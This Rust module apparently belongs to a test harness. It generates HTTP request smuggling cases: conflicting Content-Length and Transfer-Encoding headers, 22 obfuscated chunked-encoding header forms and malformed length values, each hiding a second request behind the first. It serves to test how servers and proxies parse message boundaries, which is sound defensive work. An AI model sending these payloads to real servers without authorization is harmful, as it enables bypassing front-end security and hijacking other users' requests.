//! Requests that say in several ways how long their bodies are.

use super::{Attack, Hidden, SIZE, attack, joined, login};

/// Headers that say or seem to say that a body is chunked.
const CODINGS: [&str; 22] = [
    "Transfer-Encoding: chunked",
    "transfer-encoding:chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: chunked\t",
    "Transfer-Encoding: Chunked",
    "TRANSFER-ENCODING: CHUNKED",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked, gzip",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding : chunked",
    "X: y\r\n Transfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
];

/// Content-Length and Transfer-Encoding at once, with the hidden request behind the end by either.
pub(super) fn length_and_coding(hidden: Hidden) -> Vec<Attack> {
    let by_length = joined(&[b"0\r\n\r\n", &hidden.bytes()]);
    let bodies = [
        ("length is longer", by_length.len(), by_length),
        ("length is shorter", SIZE.len() + 2, hidden.chunked()),
    ];
    let mut attacks = Vec::new();
    for coding in CODINGS {
        for (name, length, body) in &bodies {
            for headers in [
                format!("content-length: {length}\r\n{coding}\r\n"),
                format!("{coding}\r\ncontent-length: {length}\r\n"),
            ] {
                attacks.push(attack(
                    &format!("{headers:?}, {name}"),
                    vec![joined(&[&login(&headers), body])],
                ));
            }
        }
    }
    attacks
}

/// Content-Length that can be read in several ways, or in none.
pub(super) fn lengths(hidden: Hidden) -> Vec<Attack> {
    let lengths = [
        "80\r\ncontent-length: 80",
        "80\r\ncontent-length: 0",
        "0\r\ncontent-length: 80",
        "80, 80",
        "80,0",
        "0,80",
        "+80",
        "-80",
        "080",
        "0x50",
        "8_0",
        "8 0",
        "80 ",
        "80\t",
        "80;",
        "80.0",
        "8e1",
        "\"80\"",
        "",
        "18446744073709551696",
        "\r\n 80",
        "\x0b80",
    ];
    let of_length = |length: &str| {
        let head = login(&format!("content-length: {length}\r\n"));
        attack(
            &format!("content-length: {length:?}"),
            vec![joined(&[&head, &hidden.bytes()])],
        )
    };
    lengths.into_iter().map(of_length).collect()
}

/// Transfer-Encoding alone.
pub(super) fn codings(hidden: Hidden) -> Vec<Attack> {
    let of_coding = |coding: &str| {
        let head = login(&format!("{coding}\r\n"));
        attack(&format!("{coding:?} alone"), vec![joined(&[&head, &hidden.chunked()])])
    };
    CODINGS.into_iter().map(of_coding).collect()
}
